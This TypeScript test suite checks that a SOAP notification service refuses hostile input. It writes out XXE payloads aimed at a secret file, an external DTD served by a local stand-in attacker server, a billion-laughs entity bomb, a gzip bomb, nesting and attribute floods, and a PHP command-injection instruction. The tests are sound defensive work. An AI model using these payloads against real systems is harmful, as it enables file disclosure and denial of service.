// Hostile and malformed input to ProcessNotification over real HTTP: every call is refused with a SOAP 1.1
// Fault for less than 1 s of CPU time, nothing is stored, no DTD or entity is ever resolved or fetched,
// and the process stays up (health answers and a good call is still accepted afterwards).
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../../src/db/database.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { cpuCost } from '../helpers/cost.js';
import {
  engagement,
  notificationEnvelope,
  postNotification,
  PROCESS_NOTIFICATION_SOAP_ACTION,
  readAnswer,
  TEST_SOURCE_SYSTEM,
  type SoapAnswer,
} from '../helpers/soap.js';

const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const TABLES = ['notification_call', 'inbound_notification', 'rejected_transaction', 'ingest_post'];
const MB = 1024 * 1024;

let t: TestApp;
// A local file with a secret, for the XXE attempts to aim at.
let secretFile: string;
const SECRET = `top-secret-${process.pid}-do-not-leak`;
// A local HTTP server standing in for an attacker's host: external DTDs and entities point here.
let attacker: http.Server;
let attackerUrl: string;
let attackerHits = 0;

beforeAll(async () => {
  // One ingest thread: every large call below is read on it, as a loaded service reads them.
  t = await startTestApp({ INGEST_THREADS: '1' });
  await t.activate(TEST_SOURCE_SYSTEM);
  // The ingest threads start at the first large call (src/process-notifications/parse-pool.ts): one large
  // call for another address (refused, nothing stored) starts it, so that its one-time start-up is
  // not counted as the first hostile call's cost.
  const warmUp = await postNotification(
    t.url,
    notificationEnvelope(
      Array.from({ length: 100 }, () => booking()),
      'SE-SOMEONE-ELSE',
    ),
  );
  expect(warmUp.faultcode).toBe('soap:Client');
  secretFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ei-xxe-')), 'secret.txt');
  fs.writeFileSync(secretFile, SECRET);
  attacker = http.createServer((req, res) => {
    attackerHits++;
    res.setHeader('content-type', 'application/xml-dtd');
    res.end(`<!ENTITY % leak SYSTEM "file://${secretFile}">`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await t?.close();
  await new Promise((resolve) => attacker?.close(resolve));
  if (secretFile) fs.rmSync(path.dirname(secretFile), { recursive: true, force: true });
});

async function counts(): Promise<Record<string, number>> {
  const entries = await Promise.all(
    TABLES.map(async (table) => {
      const [row] = await rows<{ n: number }>(
        t.database.orm,
        sql`select count(*)::int as n from ${sql.identifier(table)}`,
      );
      return [table, Number(row!.n)] as const;
    }),
  );
  return Object.fromEntries(entries);
}

let unique = 0;
function booking() {
  unique++;
  return engagement({ businessObjectInstanceIdentifier: `HOSTILE-OK-${unique}` });
}

/** A well-formed call, to splice hostile parts into. */
function goodEnvelope(): string {
  return notificationEnvelope([booking()]);
}

interface RawRequest {
  headers?: Record<string, string>;
  /** Written as they are; without content-length the request goes chunked. */
  chunks: (string | Buffer)[];
  contentLength?: boolean;
}

/** A POST over node:http, for what fetch will not send (chunked bodies, exact bytes, own headers). */
function rawPost(request: RawRequest): Promise<SoapAnswer> {
  const url = new URL(`${t.url}/ProcessNotification/1/rivtabp21`);
  const buffers = request.chunks.map((chunk) => (typeof chunk === 'string' ? Buffer.from(chunk) : chunk));
  const headers: Record<string, string | number> = {
    'content-type': 'text/xml; charset=utf-8',
    SOAPAction: `"${PROCESS_NOTIFICATION_SOAP_ACTION}"`,
    ...request.headers,
  };
  if (request.contentLength !== false) headers['content-length'] = buffers.reduce((sum, b) => sum + b.length, 0);
  return new Promise((resolve, reject) => {
    const req = http.request(url, { method: 'POST', headers }, (res) => {
      const parts: Buffer[] = [];
      res.on('data', (part: Buffer) => parts.push(part));
      res.on('end', () => {
        const contentType = res.headers['content-type'] ?? null;
        resolve(readAnswer(res.statusCode ?? 0, contentType, Buffer.concat(parts).toString('utf8')));
      });
      res.on('error', reject);
    });
    req.on('error', reject);
    // An answer may come before the whole body is sent (a refusal); the server drains the rest.
    for (const buffer of buffers) req.write(buffer);
    req.end();
  });
}

interface Refusal {
  faultcode?: string;
  /** What the faultstring must say. */
  reason: RegExp;
}

/**
 * What one refusal may cost in CPU time, service and test client together (both run in this process):
 * hostile input is turned away cheaply. CPU time, not wall-clock time: a loaded machine makes the answer
 * late, not costly.
 */
const REFUSAL_CPU_MS = 1000;
/** CPU time (not wall time) a refusal cost, printed so a failure says how much. */
function cpuCostOfRefusal(cpu: number): number {
  if (cpu >= REFUSAL_CPU_MS) console.log(`the refusal cost ${Math.round(cpu)} ms of CPU time`);
  return cpu;
}

/**
 * Sends one hostile call and asserts the whole promise: a SOAP 1.1 fault for little CPU time, nothing
 * stored, the process still healthy and still accepting a good call.
 */
async function expectRefused(send: () => Promise<SoapAnswer>, refusal: Refusal): Promise<SoapAnswer> {
  const before = await counts();
  const { result: answer, cpuMs } = await cpuCost(send);

  expect(answer.status, answer.text.slice(0, 300)).toBe(500);
  expect(answer.contentType).toMatch(/^text\/xml/);
  expect(answer.envelopeNamespace).toBe(SOAP11);
  expect(answer.faultcode).toBe(refusal.faultcode ?? 'soap:Client');
  expect(answer.faultstring).toMatch(refusal.reason);
  expect(cpuCostOfRefusal(cpuMs)).toBeLessThan(REFUSAL_CPU_MS);
  expect(await counts()).toEqual(before);

  expect((await fetch(`${t.url}/healthz`)).status).toBe(200);
  const good = await postNotification(t.url, goodEnvelope());
  expect(good).toMatchObject({
    status: 200,
    resultCode: 'OK',
    comment: 'accepted 1 (already received 0), ignored 0, rejected 0',
  });
  return answer;
}

const post =
  (body: string | Uint8Array, headers: Record<string, string> = {}) =>
  () =>
    postNotification(t.url, body, headers);

/** The good envelope with a DTD in front of it and `reference` in place of the LogicalAddress value. */
function withDoctype(doctype: string, reference?: string): string {
  let envelope = goodEnvelope().replace('<?xml version="1.0" encoding="UTF-8"?>', '');
  if (reference !== undefined) envelope = envelope.replace('>SE-TEST-INBOX<', `>${reference}<`);
  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${envelope}`;
}

describe('ProcessNotification under hostile input', () => {
  it('When a good call is sent first, then it is accepted (the baseline for every case below)', async () => {
    const answer = await postNotification(t.url, goodEnvelope());
    expect(answer).toMatchObject({ status: 200, resultCode: 'OK' });
  });

  describe('DTDs and entities (never declared, expanded or fetched)', () => {
    it('When an external entity points to a local file (XXE), then the call is refused and the file never shows', async () => {
      const body = withDoctype(`<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file://${secretFile}">]>`, '&xxe;');
      const answer = await expectRefused(post(body), { reason: /document type declaration/ });
      expect(answer.text).not.toContain(SECRET);
      expect(JSON.stringify(t.logs)).not.toContain(SECRET);
    });

    it('When the XXE entity is used without a DTD, then it is refused as an unknown entity', async () => {
      const body = goodEnvelope().replace('>SE-TEST-INBOX<', '>&xxe;<');
      const answer = await expectRefused(post(body), { reason: /Not well-formed XML/ });
      expect(answer.text).not.toContain(SECRET);
    });

    it('When an external DTD and a parameter entity point to a remote host, then nothing is fetched', async () => {
      const hits = attackerHits;
      const body = withDoctype(
        `<!DOCTYPE soapenv:Envelope SYSTEM "${attackerUrl}/evil.dtd" [<!ENTITY % remote SYSTEM "${attackerUrl}/p.dtd"> %remote; %leak;]>`,
      );
      const answer = await expectRefused(post(body), { reason: /document type declaration/ });
      expect(attackerHits).toBe(hits);
      expect(answer.text).not.toContain(SECRET);
    });

    it('When a billion-laughs entity bomb is sent, then it is refused at once without expansion', async () => {
      const entities = ['<!ENTITY lol0 "lol">'];
      for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
      const body = withDoctype(`<!DOCTYPE lolz [${entities.join('')}]>`, '&lol9;');
      const answer = await expectRefused(post(body), { reason: /document type declaration/ });
      expect(answer.text).not.toContain('lollol');
    });

    it('When a DOCTYPE without any entity is sent, then it is refused too', async () => {
      await expectRefused(post(withDoctype('<!DOCTYPE soapenv:Envelope>')), { reason: /document type declaration/ });
    });
  });

  describe('size', () => {
    // A well-formed call padded with layout white space to `bytes`: only its size is wrong.
    function paddedEnvelope(bytes: number): string {
      const envelope = goodEnvelope();
      const at = envelope.indexOf('<soapenv:Body>');
      return envelope.slice(0, at) + ' '.repeat(bytes - envelope.length) + envelope.slice(at);
    }

    it('When a 20 MB body is sent with its content-length, then it is refused as too large without being read', async () => {
      // Encoded beforehand, so that the 1 s covers the server's answer rather than the client's encoding.
      const body = Buffer.from(paddedEnvelope(20 * MB));
      await expectRefused(() => rawPost({ chunks: [body] }), { reason: /larger than 15728640 bytes/ });
    });

    it('When a 20 MB body is sent chunked without a content-length, then it is refused as too large', async () => {
      const body = Buffer.from(paddedEnvelope(20 * MB));
      const chunks: Buffer[] = [];
      for (let offset = 0; offset < body.length; offset += 256 * 1024)
        chunks.push(body.subarray(offset, offset + 256 * 1024));
      await expectRefused(() => rawPost({ chunks, contentLength: false }), { reason: /larger than 15728640 bytes/ });
    });

    it('When a small gzip body inflates past 15 MB, then it is refused as too large without inflating it all', async () => {
      const compressed = gzipSync(paddedEnvelope(16 * MB));
      expect(compressed.length).toBeLessThan(100_000);
      await expectRefused(() => rawPost({ chunks: [compressed], headers: { 'content-encoding': 'gzip' } }), {
        reason: /larger than 15728640 bytes/,
      });
    });

    it('When a gzip body is not gzip at all, then it is refused as unreadable', async () => {
      await expectRefused(() => rawPost({ chunks: [goodEnvelope()], headers: { 'content-encoding': 'gzip' } }), {
        reason: /could not be read/,
      });
    });

    it('When an unknown content encoding is declared, then it is refused', async () => {
      await expectRefused(() => rawPost({ chunks: [goodEnvelope()], headers: { 'content-encoding': 'x-unknown' } }), {
        reason: /Unsupported content encoding/,
      });
    });
  });

  describe('encoding', () => {
    it('When a value holds invalid UTF-8 bytes, then the call is refused', async () => {
      const [head, tail] = goodEnvelope().split('HOSTILE-OK-');
      const body = Buffer.concat([
        Buffer.from(`${head}HOSTILE-`),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
        Buffer.from(`-${tail}`),
      ]);
      await expectRefused(() => rawPost({ chunks: [body] }), { reason: /not valid UTF-8/ });
    });

    it('When the body is UTF-16, then the call is refused', async () => {
      const utf16 = Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(goodEnvelope().replace('UTF-8', 'UTF-16'), 'utf16le'),
      ]);
      await expectRefused(() => rawPost({ chunks: [utf16], headers: { 'content-type': 'text/xml; charset=utf-16' } }), {
        reason: /not valid UTF-8/,
      });
    });

    it('When the XML declaration names another encoding, then the call is refused', async () => {
      const body = goodEnvelope().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
      await expectRefused(post(body), { reason: /Only UTF-8 is accepted/ });
    });
  });

  describe('namespaces and SOAP versions', () => {
    it('When the envelope is in a wrong namespace, then the call is refused', async () => {
      const body = goodEnvelope().replace(`xmlns:soapenv="${SOAP11}"`, 'xmlns:soapenv="http://example.com/not-soap/"');
      await expectRefused(post(body), { reason: /Not a SOAP 1.1 envelope/ });
    });

    it('When ProcessNotification is in a wrong namespace, then the call is refused', async () => {
      const body = goodEnvelope().replace(
        'urn:riv:itintegration:engagementindex:ProcessNotificationResponder:1"',
        'urn:riv:itintegration:engagementindex:UpdateResponder:1"',
      );
      await expectRefused(post(body), { reason: /Not a ProcessNotification request/ });
    });

    it('When the envelope has no namespace at all, then the call is refused', async () => {
      const body = goodEnvelope().replace(`xmlns:soapenv="${SOAP11}"`, '').replaceAll('soapenv:', '');
      await expectRefused(post(body), { reason: /Not a SOAP 1.1 envelope/ });
    });

    it('When a SOAP 1.2 envelope is sent, then it is refused with soap:VersionMismatch', async () => {
      const body = goodEnvelope().replace(
        `xmlns:soapenv="${SOAP11}"`,
        'xmlns:soapenv="http://www.w3.org/2003/05/soap-envelope"',
      );
      await expectRefused(post(body, { 'content-type': 'application/soap+xml; charset=utf-8' }), {
        faultcode: 'soap:VersionMismatch',
        reason: /SOAP 1.2 is not supported/,
      });
    });

    it.each([
      ['another operation', '"urn:evil:DropTables"'],
      ['unquoted', 'ProcessNotification'],
      ['missing', undefined],
    ])(
      'When the SOAPAction is %s, then the body decides: a ProcessNotification is handled as one (no SOAP 1.2 TypeError fault)',
      async (_name, action) => {
        const headers: Record<string, string> = { 'content-type': 'text/xml; charset=utf-8' };
        if (action !== undefined) headers.SOAPAction = action;
        const response = await fetch(`${t.url}/ProcessNotification/1/rivtabp21`, {
          method: 'POST',
          headers,
          body: goodEnvelope(),
        });
        const answer = readAnswer(response.status, response.headers.get('content-type'), await response.text());
        expect(answer).toMatchObject({ status: 200, resultCode: 'OK', envelopeNamespace: SOAP11 });
        const hostile = goodEnvelope()
          .replace('pn:ProcessNotification>', 'pn:Update>')
          .replace('pn:ProcessNotification>', 'pn:Update>');
        await expectRefused(post(hostile, { SOAPAction: action ?? '' }), {
          reason: /Not a ProcessNotification request/,
        });
      },
    );
  });

  describe('not SOAP, not XML', () => {
    it('When the body is empty, then the call is refused', async () => {
      await expectRefused(() => rawPost({ chunks: [] }), { reason: /empty/ });
    });

    it('When the body is only white space, then the call is refused', async () => {
      await expectRefused(post('   \n  '), { reason: /Not well-formed XML|empty/ });
    });

    it('When JSON is posted, then the call is refused', async () => {
      const json = JSON.stringify({ ProcessNotification: { engagementTransaction: [engagement()] } });
      await expectRefused(post(json, { 'content-type': 'application/json' }), {
        reason: /Content-Type must be text\/xml/,
      });
    });

    it('When form data is posted, then the call is refused', async () => {
      const form = new URLSearchParams({ LogicalAddress: 'SE-TEST-INBOX', resident: '191212121212' }).toString();
      await expectRefused(post(form, { 'content-type': 'application/x-www-form-urlencoded' }), {
        reason: /Content-Type must be text\/xml/,
      });
    });

    it('When multipart form data is posted, then the call is refused', async () => {
      const form = new FormData();
      form.set('file', new Blob([goodEnvelope()], { type: 'text/xml' }), 'call.xml');
      const before = await counts();
      const { result: answer, cpuMs } = await cpuCost(async () => {
        const response = await fetch(`${t.url}/ProcessNotification/1/rivtabp21`, { method: 'POST', body: form });
        return readAnswer(response.status, response.headers.get('content-type'), await response.text());
      });
      expect(cpuCostOfRefusal(cpuMs)).toBeLessThan(REFUSAL_CPU_MS);
      expect(answer).toMatchObject({ status: 500, faultcode: 'soap:Client', envelopeNamespace: SOAP11 });
      expect(await counts()).toEqual(before);
    });

    it('When random binary is posted, then the call is refused', async () => {
      const binary = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251));
      await expectRefused(
        () => rawPost({ chunks: [binary], headers: { 'content-type': 'application/octet-stream' } }),
        {
          reason: /Content-Type must be text\/xml/,
        },
      );
    });

    it('When the envelope is cut off (unclosed tags), then the call is refused', async () => {
      const envelope = goodEnvelope();
      await expectRefused(post(envelope.slice(0, envelope.indexOf('</pn:ProcessNotification>'))), {
        reason: /Not well-formed XML/,
      });
    });

    it('When closing tags do not match, then the call is refused', async () => {
      const body = goodEnvelope().replace('</ei:engagement>', '</ei:engagements>');
      await expectRefused(post(body), { reason: /Not well-formed XML/ });
    });

    it('When a second root element follows the envelope, then the call is refused', async () => {
      await expectRefused(post(`${goodEnvelope()}<soapenv:Envelope xmlns:soapenv="${SOAP11}"/>`), {
        reason: /Not well-formed XML/,
      });
    });

    it('When a processing instruction stands before the root, then the call is refused (SOAP 1.1 §3)', async () => {
      const body = goodEnvelope().replace('?>', '?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?>');
      await expectRefused(post(body), { reason: /processing instruction/ });
    });

    it('When a processing instruction stands inside the body, then the call is refused', async () => {
      const body = goodEnvelope().replace('<pn:ProcessNotification>', '<pn:ProcessNotification><?php system("id"); ?>');
      await expectRefused(post(body), { reason: /processing instruction/ });
    });
  });

  describe('deep nesting', () => {
    const depth = 100_000;

    it('When 100,000 nested extension elements are in the header, then the call is refused cheaply (CPU time)', async () => {
      const nest = `${'<x:a xmlns:x="urn:example:extension">'.repeat(1)}${'<x:a>'.repeat(depth)}${'</x:a>'.repeat(depth + 1)}`;
      const body = goodEnvelope().replace('</soapenv:Header>', `${nest}</soapenv:Header>`);
      await expectRefused(post(body), { reason: /nested deeper than/ });
    });

    it('When 100,000 nested elements are inside a field value, then the call is refused cheaply (CPU time)', async () => {
      const body = goodEnvelope().replace(
        '<ei:categorization>',
        `<ei:categorization>${'<b>'.repeat(depth)}${'</b>'.repeat(depth)}`,
      );
      await expectRefused(post(body), { reason: /nested deeper than/ });
    });

    it('When 100,000 elements are opened and never closed, then the call is refused cheaply (CPU time)', async () => {
      const body = goodEnvelope().replace(
        '</pn:ProcessNotification>',
        '<x:a xmlns:x="urn:example:extension">'.repeat(depth),
      );
      await expectRefused(post(body), { reason: /nested deeper than/ });
    });
  });

  describe('markup floods under 15 MB', () => {
    const extension = (inner: string) =>
      goodEnvelope().replace(
        '</soapenv:Header>',
        `<x:a xmlns:x="urn:example:extension">${inner}</x:a></soapenv:Header>`,
      );

    it('When one element carries 500,000 attributes, then the call is refused cheaply (CPU time)', async () => {
      const attributes = Array.from({ length: 500_000 }, (_, i) => `a${i}="1"`).join(' ');
      await expectRefused(post(extension(`<x:b ${attributes}/>`)), { reason: /attributes/ });
    });

    it('When an element carries more than 64 attributes, then the call is refused', async () => {
      const attributes = Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ');
      await expectRefused(post(extension(`<x:b ${attributes}/>`)), { reason: /more than 64 attributes/ });
    });

    it('When 2.4 million empty elements fill an extension, then the call is refused cheaply (CPU time)', async () => {
      await expectRefused(post(extension('<x:b/>'.repeat(2_400_000))), { reason: /more than 1000000 elements/ });
    });

    it('When 2.9 million entity references fill an extension, then the call is refused cheaply (CPU time)', async () => {
      await expectRefused(post(extension('&amp;'.repeat(2_900_000))), { reason: /entity or character references/ });
    });
  });

  it('When every hostile call has been refused, then the service is still healthy and ready', async () => {
    expect((await fetch(`${t.url}/healthz`)).status).toBe(200);
    expect((await fetch(`${t.url}/readyz`)).status).toBe(200);
    const refusals = t.logs.filter((line) => line.msg === 'ProcessNotification refused');
    expect(refusals.length).toBeGreaterThan(20);
    expect(JSON.stringify(t.logs)).not.toContain(SECRET);
  });
});
